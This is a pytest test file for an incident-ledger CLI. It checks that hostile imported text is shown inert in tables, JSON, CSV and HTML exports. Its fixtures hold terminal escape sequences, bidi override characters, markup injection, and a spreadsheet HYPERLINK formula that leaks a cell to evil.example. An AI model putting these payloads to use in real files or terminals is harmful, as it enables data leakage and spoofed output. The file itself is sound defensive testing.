"""Text from an import file that tries to drive the reader's terminal, reorder what is
shown, or run as a spreadsheet formula: shown inert everywhere, exact in JSON."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from incident_ledger.cli import render
from incident_ledger.cli.main import app
from incident_ledger.projections.exports.csv_export import neutralised
from tests.test_exports import read_dom

runner = CliRunner()

CLEAR = "\x1b[2J"  # erase the screen
BEL = "\x07"
RLO = "\u202e"  # right-to-left override: reverses what follows
TITLE = "\x1b]0;pwned\x07"  # set the window title
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

RECORDS: list[dict[str, Any]] = [
    {"type": "incident", "id": "g", "title": f"Prison {CLEAR}attack{BEL}"},
    {
        "type": "source",
        "id": "evil",
        "name": f"[bold]Evil[/bold] {CLEAR}:warning: {RLO}0002 deniK",
        "kind": "outlet",
    },
    {"type": "source", "id": "s", "name": "Plain", "kind": "outlet"},
    {
        "type": "report",
        "id": "r1",
        "source": "evil",
        "published_at": "2022-01-21",
        "title": f"{TITLE}headline",
    },
    {"type": "report", "id": "r2", "source": "s", "published_at": "2022-01-22"},
    {
        "type": "claim",
        "id": "c1",
        "incident": "g",
        "fact": "killed",
        "value": 20,
        "report": "r1",
        "quote": f"{FORMULA} \x1b[31mred{BEL} \x9b31m killed",
        "translation": f"twenty {RLO}killed",
    },
    {
        "type": "claim",
        "id": "c2",
        "incident": "g",
        "fact": "control",
        "value": f"sdf{RLO}ton",
        "report": "r2",
        "valid_time": "2022-01-22",
    },
    {"type": "claim", "id": "c3", "incident": "g", "fact": "killed", "value": 7, "report": "r2"},
    {
        "type": "claim",
        "id": "c4",
        "incident": "g",
        "fact": "held",
        "value": "isis [/b] held",
        "report": "r2",
    },
]

UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What must never reach a terminal: C0 controls but tab and newline, DEL, C1, bidi controls."""


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("hostile")
    path = str(folder / "ledger.db")
    source = folder / "in.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in RECORDS), encoding="utf-8")
    assert runner.invoke(app, ["--db", path, "init"]).exit_code == 0
    assert runner.invoke(app, ["--db", path, "append", "--file", str(source)]).exit_code == 0
    return path


COMMANDS = {
    "state": ("state", "g", "--at", "2022-01-23"),
    "timeline": ("timeline", "g", "--at", "2022-01-23"),
    "history": ("history", "g", "killed"),
    "diff": ("diff", "g", "--from", "2022-01-20", "--to", "2022-01-23"),
    "search": ("search", "killed"),
    "sources": ("sources",),
    "incidents": ("incidents",),
    "facts": ("facts", "g", "--at", "2022-01-23"),
}


@pytest.mark.slow
@pytest.mark.parametrize("command", COMMANDS.values(), ids=COMMANDS.keys())
def test_tables_show_hostile_text_inert(db: str, command: tuple[str, ...]) -> None:
    result = runner.invoke(app, ["--db", db, *command], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    assert not UNSAFE.findall(result.stdout)
    assert "[2J" not in result.stdout and "]0;pwned" not in result.stdout


def test_what_the_tables_do_show(db: str) -> None:
    wide = {"COLUMNS": "200"}
    sources = runner.invoke(app, ["--db", db, "sources"], env=wide).stdout
    # Markup and emoji codes are shown as typed; the override is shown, not obeyed.
    assert "[bold]Evil[/bold] :warning: <U+202E>0002 deniK" in sources
    search = runner.invoke(app, ["--db", db, "search", "killed"], env=wide).stdout
    assert f"{FORMULA} red 31m killed" in search
    assert "twenty <U+202E>killed" in search
    state = runner.invoke(app, ["--db", db, "state", "g", "--at", "2022-01-23"], env=wide).stdout
    assert "sdf<U+202E>ton" in state
    assert "isis [/b] held" in state  # as rich markup, a closing tag with no opening one crashed


def test_search_highlights_stay_on_the_matched_words(db: str) -> None:
    from incident_ledger.cli.lookup_commands import highlighted

    text = highlighted(f"{CLEAR}a {RLO}killed b", [[len(CLEAR) + 3, len(CLEAR) + 9]])
    assert text.plain == "a <U+202E>killed b"
    assert [text.plain[span.start : span.end] for span in text.spans] == ["killed"]


def test_json_stays_exact(db: str) -> None:
    result = runner.invoke(app, ["--db", db, "search", "killed", "--json"])
    hits = json.loads(result.stdout)["hits"]
    assert {hit["original"] for hit in hits} >= {RECORDS[5]["quote"], RECORDS[5]["translation"]}
    # Exact values, written so that a terminal would not act on them either.
    assert not UNSAFE.findall(result.stdout)
    sources = json.loads(runner.invoke(app, ["--db", db, "sources", "--json"]).stdout)
    assert RECORDS[1]["name"] in {source["name"] for source in sources}


def test_an_error_line_quoting_input_is_inert(db: str) -> None:
    result = runner.invoke(app, ["--db", db, "state", f"x{BEL}{RLO}y\x9b"])
    assert (result.exit_code, result.stderr) == (
        1,
        "error: no incident 'x<U+202E>y' in the ledger\n",
    )


@pytest.mark.slow
def test_the_demo_shows_hostile_text_inert(monkeypatch: pytest.MonkeyPatch) -> None:
    from incident_ledger.usecases import demo

    real = demo.walkthrough()

    def hostile() -> dict[str, Any]:
        walk = json.loads(json.dumps(real))
        walk["title"] = f"[bold]{CLEAR}Title{BEL}"
        step = walk["steps"][0]
        position = next(iter(step["state"]["facts"].values()))["positions"][0]
        position["quote"] = f"{RLO}quote{TITLE}"
        position["claimant"] = f"{CLEAR}claimant"
        return dict(walk)

    monkeypatch.setattr(demo, "walkthrough", hostile)
    result = runner.invoke(app, ["demo"])
    assert result.exit_code == 0, result.output
    assert not UNSAFE.findall(result.stdout)
    assert "[bold]Title" in result.stdout


def test_a_document_printed_on_a_terminal_is_inert_and_exact_in_a_pipe(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for terminal, expected in ((True, "a<U+202E>b\nc"), (False, f"a{RLO}b\x1b[2J\nc")):
        buffer = io.StringIO()
        monkeypatch.setattr(buffer, "isatty", lambda terminal=terminal: terminal)
        monkeypatch.setattr("sys.stdout", buffer)
        render.raw(f"a{RLO}b{CLEAR}\nc")
        assert buffer.getvalue() == expected


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_neutralises_formula_cells(db: str) -> None:
    result = runner.invoke(app, ["--db", db, "export", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
    quoted = {row["claim"]: row["quote"] for row in rows}
    assert quoted["c1"].startswith("'=HYPERLINK(")
    assert quoted["c1"][1:] == RECORDS[5]["quote"]  # one leading ' dropped gives it back


@pytest.mark.parametrize(
    ("column", "text", "written"),
    [
        ("quote", "=1+1", "'=1+1"),
        ("quote", "+31 612", "'+31 612"),
        ("quote", "-5", "'-5"),  # text that happens to be a number is still text here
        ("note", "@SUM(A1)", "'@SUM(A1)"),
        ("note", "\tcmd", "'\tcmd"),
        ("note", "\rcmd", "'\rcmd"),
        ("quote", "'Twas", "''Twas"),  # so that one ' can always be dropped
        ("quote", "a = b", "a = b"),
        ("value", "-5", "-5"),  # a number in a numeric column is a number
        ("low", "-12.5", "-12.5"),
        ("value", "-5 or so", "'-5 or so"),
        ("claim", "-c1", "'-c1"),
        ("quote", None, ""),
        ("value", 20, "20"),
    ],
)
def test_the_csv_rule(column: str, text: Any, written: str) -> None:
    assert neutralised(column, text) == written


# --- HTML --------------------------------------------------------------------------------------


def test_html_isolates_user_text_in_bdi(db: str, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    result = runner.invoke(app, ["--db", db, "export", "--format", "html", "--out", str(out)])
    assert result.exit_code == 0, result.output
    page = out.read_text(encoding="utf-8")
    dom = read_dom(page)
    for needle in ("0002 deniK", "sdf\u202eton", "twenty \u202ekilled", "Plain"):
        holders = [(text, stack) for text, stack in dom.texts if needle in text]
        assert holders, needle
        for text, stack in holders:
            tags = [tag for tag, _ in stack]
            if "svg" in tags:  # no HTML element in SVG text: Unicode's isolates instead
                assert re.search(f"\u2068[^\u2069]*{needle}[^\u2069]*\u2069", text), text
            else:
                assert "bdi" in tags, (needle, tags)
    assert dom.title.startswith("Incident ledger report: \u2068") and dom.title.endswith("\u2069")


class _Counted:
    """A pattern whose substitutions are counted."""

    def __init__(self, pattern: re.Pattern[str], made: list[str]) -> None:
        self._pattern, self._made = pattern, made

    def sub(self, replacement: Any, text: str) -> str:
        self._made.append(text)
        return self._pattern.sub(replacement, text)


def test_safe_text_is_written_as_it_is_after_one_search(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every character a control or bidi rule acts on makes the text be rewritten, with
    the same result as ever; text with none is not rewritten twice to be the same (a
    month's new claims of a hot incident were half a million cells)."""
    made: list[str] = []
    monkeypatch.setattr(render, "_CONTROLS", _Counted(render._CONTROLS, made))
    monkeypatch.setattr(render, "_BIDI", _Counted(render._BIDI, made))
    plain = "src-549 revised: 16 → 245, سجن غويران\tend\n"
    assert render.terminal_text(plain) == plain and made == []
    for code in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]:
        assert chr(code) not in render.terminal_text(f"a{chr(code)}b")
    for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]:
        assert render.terminal_text(f"a{chr(code)}b") == f"a<U+{code:04X}>b"
    assert render.terminal_text("a\x1b[2Jb") == "ab"
